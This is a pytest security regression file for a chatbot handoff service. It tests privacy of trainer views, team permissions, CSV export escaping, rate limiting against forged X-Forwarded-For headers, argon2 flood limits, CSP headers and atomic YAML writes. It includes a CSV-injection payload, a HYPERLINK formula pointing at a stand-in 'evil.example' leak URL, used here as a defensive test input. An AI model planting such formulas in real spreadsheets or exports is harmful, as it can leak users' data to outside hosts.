"""What a review of the code found, each tried as its attacker would: a trainer reading who
wrote to the bot, an agent making a team, a formula in a CSV export, an agent reading another
team's chats through a contact's history, forged X-Forwarded-For and a flood of sign-ins, a page
without a Content-Security-Policy, and a YAML file half written.

Service-level: the handoff service's app through TestClient (SQLite), and for the forged address
the service as `python -m handoff` serves it."""
# ruff: noqa: F811  (pytest passes the imported fixtures by their names)

from __future__ import annotations

import contextlib
import csv
import io
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from handoff import security
from handoff.app import create_app
from handoff.models import Handoff, Team
from handoff.nlu_data import NluData
from handoff.settings import Settings
from tests.handoff.conftest import events, settings  # noqa: F401  (fixtures used here)
from tests.handoff.support import (
    PASSWORD,
    RasaEvents,
    admin_headers,
    escalate,
    make_agent,
    wait_for,
)

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def database_url(tmp_path: Path) -> str:
    """SQLite only (tests/handoff/conftest.py's `settings` takes it): nothing tried here
    depends on the database."""
    return f"sqlite:///{tmp_path / 'handoff.db'}"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A copy of the files the trainers edit."""
    shutil.copytree(ROOT / "data", tmp_path / "project" / "data")
    shutil.copytree(ROOT / "tests" / "nlu_holdout", tmp_path / "project" / "tests" / "nlu_holdout")
    for name in ("domain.yml", "config.yml"):
        shutil.copy(ROOT / name, tmp_path / "project" / name)
    return tmp_path / "project"


@contextlib.contextmanager
def app(settings: Settings, **changes: Any) -> Iterator[TestClient]:
    with TestClient(create_app(settings.model_copy(update=changes))) as client:
        yield client


# -- 1. trainers see messages, not people ---------------------------------------------------

CUSTOMER = "telegram:424242"
EMAIL, PHONE = "leila.private@example.org", "+98 912 555 0199"


def _user(events: RasaEvents, text: str, intent: str, confidence: float) -> None:
    events.publish(CUSTOMER, {"event": "user", "text": text, "timestamp": time.time(),
                              "parse_data": {"intent": {"name": intent, "confidence": confidence},
                                             "entities": [{"entity": "language",
                                                           "value": "en"}]}})


def test_trainers_get_no_conversation_id_no_agent_line_and_no_contact_details(
        settings: Settings, events: RasaEvents, project: Path) -> None:
    with app(settings, project_dir=project, inbox_poll_interval=0.05) as client:
        trainer = make_agent(client, "tara@example.com", role="trainer")
        _user(events, f"recommend a film, mail {EMAIL} or call {PHONE}", "nlu_fallback", 0.5)
        events.publish(CUSTOMER, {"event": "bot", "text": "Sorry, I did not get that.",
                                  "timestamp": time.time()})
        events.publish(CUSTOMER, {"event": "pause", "timestamp": time.time()})
        _user(events, "Leila here, my order is late", "inform", 0.4)  # to the agent
        events.publish(CUSTOMER, {  # an agent's message, as the outbox sends it through Rasa
            "event": "bot", "text": "Hi Leila, this is Sara from support", "timestamp": time.time(),
            "metadata": {"handoff_id": 1, "message_id": 1, "agent_id": 2}})
        events.publish(CUSTOMER, {"event": "resume", "timestamp": time.time()})
        _user(events, "hm no idea", "deny", 0.4)

        def listed() -> httpx.Response | None:
            response = client.get("/api/v1/inbox", params={"language": "en"}, headers=trainer)
            found = sum(group["count"] for group in response.json()["groups"])
            return response if found == 2 else None

        listing = wait_for(listed, timeout=60)  # the first embedding loads the model
        items = [m for g in listing.json()["groups"] for m in g["messages"]]
        answers = [listing.text]
        answers += [client.get(f"/api/v1/inbox/{item['id']}/conversation",
                               headers=trainer).text for item in items]
        decided = client.post("/api/v1/inbox/decisions", headers=trainer, json={
            "ids": [item["id"] for item in items], "decision": "out_of_scope"})
        assert decided.status_code == 200, decided.text
        answers.append(decided.text)
    written = (project / "data" / "nlu" / "en.yml").read_text()
    assert "recommend a film" in written  # the decision was written
    for text in [*answers, written]:
        for secret in ("424242", EMAIL, "912 555 0199", "Sara", "Leila"):
            assert secret not in text, (secret, text)
    assert len({item["conversation"] for item in items}) == 1  # still one conversation


# -- 2. teams are an admin's -----------------------------------------------------------------

def test_an_agent_cannot_make_a_team_by_transferring_to_it(settings: Settings,
                                                           events: RasaEvents) -> None:
    with app(settings) as client:
        ticket = escalate(client, "conv-1", "en")
        agent = make_agent(client, "sara@example.com")
        assert client.post(f"/api/v1/handoffs/{ticket['id']}/claim",
                           headers=agent).status_code == 200
        moved = client.post(f"/api/v1/handoffs/{ticket['id']}/transfer", headers=agent,
                            json={"team": "my-own-team"})
        assert moved.status_code in (404, 422), moved.text
        with client.app.state.services.sessions() as session:
            assert session.scalars(select(Team).where(Team.name == "my-own-team")).first() is None
            assert session.get(Handoff, ticket["id"]).status == "assigned"


# -- 3. a CSV cell is never a formula --------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak","open")'


def test_a_formula_in_a_csv_export_is_neutralised(settings: Settings, events: RasaEvents) -> None:
    with app(settings) as client:
        admin = admin_headers(client)
        made = client.post("/api/v1/agents", headers=admin, json={
            "email": "mallory@example.com", "name": FORMULA, "password": PASSWORD})
        assert made.status_code == 201, made.text
        mallory = client.post("/api/v1/auth/login", json={
            "email": "mallory@example.com", "password": PASSWORD}).json()["access_token"]
        ticket = escalate(client, "conv-1", "en")
        assert client.post(f"/api/v1/handoffs/{ticket['id']}/claim", headers={
            "Authorization": f"Bearer {mallory}"}).status_code == 200
        today = datetime.now(UTC).date()
        exported = client.get("/api/v1/reports/export.csv", headers=admin, params={
            "since": str(today - timedelta(days=1)), "until": str(today + timedelta(days=1)),
            "by": "agent"})
        assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["agent"] for row in rows] == ["'" + FORMULA]
    assert rows[0]["handoffs"] == "1"  # numbers stay numbers


# -- 4. a contact's history stays within the reader's teams ----------------------------------

def test_a_contacts_history_shows_only_the_agents_teams(settings: Settings,
                                                        events: RasaEvents) -> None:
    with app(settings) as client:
        billing = escalate(client, "telegram:42", "fa", channel="telegram", team="billing",
                           verified=[{"kind": "phone", "value": "+989121234567",
                                      "source": "telegram_contact"}])
        with client.app.state.services.sessions() as session:
            session.get(Handoff, billing["id"]).status = "resolved"
            session.commit()
        support = escalate(client, "whatsapp:+989121234567", "fa", channel="whatsapp",
                           team="support")
        sara = make_agent(client, "sara@example.com", teams=["support"])
        both = make_agent(client, "sam@example.com", teams=["support", "billing"],
                          role="supervisor")

        def history(headers: dict[str, str]) -> list[int]:
            detail = client.get(f"/api/v1/handoffs/{support['id']}", headers=headers)
            assert detail.status_code == 200, detail.text
            return [h["id"] for h in detail.json()["history"]]

        assert history(both) == [billing["id"]]  # the same person: linked
        assert history(sara) == []


# -- 5. sign-in limits and argon2 ------------------------------------------------------------

def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@contextlib.contextmanager
def served(settings: Settings, tmp_path: Path, **env: str) -> Iterator[str]:
    """The service as `python -m handoff` runs it with `settings`, on a free local port."""
    port = _free_port()
    variables = {field.alias: str(getattr(settings, name))
                 for name, field in Settings.model_fields.items()
                 if field.alias and getattr(settings, name) is not None}
    environment = {key: value for key, value in os.environ.items()
                   if key not in ("HANDOFF_TRUSTED_PROXIES", "FORWARDED_ALLOW_IPS")} | variables | {
        "HANDOFF_HOST": "127.0.0.1", "HANDOFF_PORT": str(port), "HANDOFF_LOG_FORMAT": "text",
    } | env
    log = (tmp_path / "served.log").open("wb")
    process = subprocess.Popen([sys.executable, "-m", "handoff"], cwd=ROOT, env=environment,
                               stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 90
        while True:
            with contextlib.suppress(httpx.HTTPError):
                if httpx.get(f"{url}/healthz", timeout=1).status_code == 200:
                    break
            if process.poll() is not None or time.monotonic() > deadline:
                raise AssertionError((tmp_path / "served.log").read_text()[-3000:])
            time.sleep(0.3)
        yield url
    finally:
        process.terminate()
        process.wait(timeout=20)
        log.close()


def _login(client: httpx.Client | TestClient, number: int, forwarded: str | None = None) -> int:
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    return client.post("/api/v1/auth/login", headers=headers, json={
        "email": f"nobody{number}@example.com", "password": "guess-123456"}).status_code


def test_a_forged_forwarded_for_does_not_escape_the_address_limit(
        settings: Settings, events: RasaEvents, tmp_path: Path) -> None:
    with served(settings, tmp_path, HANDOFF_SIGN_IN_ADDRESS_LIMITS="3/minute") as url, \
            httpx.Client(base_url=url, timeout=30) as client:
        codes = [_login(client, n, f"198.51.100.{n}") for n in range(6)]
    assert codes[:3] == [401, 401, 401]
    assert codes[3:] == [429, 429, 429], codes


def test_behind_a_trusted_proxy_the_real_client_address_is_limited(settings: Settings,
                                                                   events: RasaEvents) -> None:
    proxy = ("10.0.0.2", 40000)
    with TestClient(create_app(settings.model_copy(update={
            "sign_in_address_limits": "3/minute", "trusted_proxies": "10.0.0.0/24"})),
            client=proxy) as client:
        # the client forges the left part; the proxy appends the address it saw
        codes = [_login(client, n, f"192.0.2.{n}, 203.0.113.7") for n in range(4)]
        other = _login(client, 9, "203.0.113.8")
    assert codes == [401, 401, 401, 429]
    assert other == 401  # another client behind the same proxy is not held back


class CountingHasher:
    """Argon2's hasher, counting how many of its calls run at once."""

    def __init__(self, inner: Any) -> None:
        self.inner, self.running, self.most = inner, 0, 0
        self.lock = threading.Lock()

    def _counted(self, work: Any, *args: Any) -> Any:
        with self.lock:
            self.running += 1
            self.most = max(self.most, self.running)
        try:
            time.sleep(0.2)  # a slow hash: the calls overlap if nothing stops them
            return work(*args)
        finally:
            with self.lock:
                self.running -= 1

    def hash(self, *args: Any) -> Any:
        return self._counted(self.inner.hash, *args)

    def verify(self, *args: Any) -> Any:
        return self._counted(self.inner.verify, *args)


def test_a_flood_of_sign_ins_runs_few_argon2_at_once(settings: Settings, events: RasaEvents,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    counting = CountingHasher(security._hasher)
    monkeypatch.setattr(security, "_hasher", counting)
    with app(settings) as client:
        threads = [threading.Thread(target=_login, args=(client, n)) for n in range(16)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert 1 <= counting.most <= 4, counting.most



def test_sign_ins_beyond_what_waits_its_turn_are_told_to_come_back(
        settings: Settings, events: RasaEvents, monkeypatch: pytest.MonkeyPatch) -> None:
    """A flood holds no request thread (nor its database connection) waiting for argon2: past
    the few hashing and the few queued, a sign-in is a 503 with Retry-After at once."""
    monkeypatch.setattr(security, "_hasher", CountingHasher(security._hasher))
    answers: list[tuple[int, str | None]] = []

    def sign_in(client: TestClient, number: int) -> None:
        reply = client.post("/api/v1/auth/login", json={
            "email": f"nobody{number}@example.com", "password": "guess-123456"})
        answers.append((reply.status_code, reply.headers.get("retry-after")))

    with app(settings.model_copy(update={"sign_in_address_limits": "1000/minute"})) as client:
        threads = [threading.Thread(target=sign_in, args=(client, n)) for n in range(30)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert _login(client, 99) == 401  # the flood over, a sign-in is checked again
    assert {code for code, _ in answers} == {401, 503}, answers
    assert all(wait == "1" for code, wait in answers if code == 503)
    assert sum(code == 401 for code, _ in answers) >= security.HASHES_AT_ONCE

# -- 6. the console's Content-Security-Policy ------------------------------------------------

def test_the_console_and_the_demo_page_send_a_strict_policy(settings: Settings,
                                                            events: RasaEvents) -> None:
    with app(settings) as client:
        for path in ("/console/", "/console/main.js", "/widget/demo"):
            response = client.get(path)
            if path == "/widget/demo" and response.status_code == 404:
                continue  # the demo page may be turned off; what it serves has the policy
            assert response.status_code == 200, path
            policy = response.headers.get("content-security-policy", "")
            directives = {part.split()[0]: part.split()[1:]
                          for part in policy.split(";") if part.strip()}
            assert directives.get("script-src") == ["'self'"], (path, policy)
            assert directives.get("frame-ancestors") == ["'none'"], (path, policy)
            assert directives.get("object-src") == ["'none'"], (path, policy)
            assert "'self'" in directives.get("connect-src", []), (path, policy)
            assert response.headers.get("x-content-type-options") == "nosniff"
            assert response.headers.get("referrer-policy") == "no-referrer"
        assert "<script>" not in client.get("/console/").text  # nothing inline to allow


# -- 7. YAML replaced whole or not at all ----------------------------------------------------

@contextlib.contextmanager
def disk_full_after(size: int) -> Iterator[None]:
    """Writes past `size` bytes of a file fail (EFBIG), as on a full disk."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    previous = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, previous)


def test_an_interrupted_yaml_write_leaves_the_old_file(project: Path) -> None:
    path = project / "data" / "nlu" / "en.yml"
    before = path.read_bytes()
    with disk_full_after(len(before) // 2), pytest.raises(OSError):
        NluData(project).add("en", "greet", ["good morning to the whole shop team"])
    assert path.read_bytes() == before
    assert sorted(p.name for p in path.parent.iterdir()) == sorted(
        p.name for p in (ROOT / "data" / "nlu").iterdir())  # nothing half-written beside it
